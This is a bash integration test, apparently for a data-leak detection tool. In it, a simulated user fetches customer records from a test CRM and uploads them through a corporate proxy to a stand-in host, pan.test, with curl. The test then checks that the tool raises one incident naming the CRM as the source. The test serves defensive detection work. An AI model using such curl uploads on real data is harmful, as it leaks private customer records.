#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only
#
# A CRM behind a proxy. The company's way out is a proxy: no connection of hers ever goes to the
# CRM's address. What she asks it for tells the CRM from all the rest.
# shellcheck source=tests/support/fixture.sh
. "$(dirname "$0")/../support/fixture.sh"
set_the_stage

crm_serves crm.test
cloud_serves shop.test
cloud_serves pan.test
proxy_serves
policy=$work/policy.conf
# The proxy is another machine's: what it carries there is nobody's here.
sed 's/^host = crm.test, 10.77.0.10$/&\nvia = 10.77.0.60:3128/' userspace/policy/example.conf >"$policy"
printf '[hub "proxy"]\nexecutable = %s\n' "$(command -v tinyproxy)" >>"$policy"
then_it "the policy has the proxy as a way to the CRM" grep -qx 'via = 10.77.0.60:3128' "$policy"
weir_watches

alice_does <<'END'
export https_proxy=http://proxy.corp:3128
curl -sS -d order=7 https://shop.test/ >receipt.txt
curl -sS -F file=@receipt.txt https://pan.test/upload
END
eventually 10 test "$(received_bytes pan.test)" -gt 0
then_it "the receipt has gone through the proxy" test "$(received_bytes pan.test)" -gt 0

alice_does <<'END'
export https_proxy=http://proxy.corp:3128
for number in 1 2 3; do
	curl -sS "https://crm.test/policy/P20208000$number" >>customers.json
done
curl -sS --data-binary @customers.json https://pan.test/upload
END
rows_bytes=$(stat -c %s "$home/customers.json")
then_it "the rows have gone through the proxy, too" test "$(received_bytes pan.test)" -gt "$rows_bytes"

soon "one incident, from the CRM" \
	incidents_say "len(d) == 1 and {s['name'] for s in d[0]['sources']} == {'crm.test'}"
soon "the proxy was asked for pan.test" \
	incidents_say "[(s['host'], s['host_source'], s['address']) for s in d[0]['sinks']] == [('pan.test', 'http_connect', '10.77.0.60')]"
soon "the receipt has no part in it" \
	events_say "not [e for e in $labelled if 'receipt' in str(e) or 'shop.test' in str(e)]"
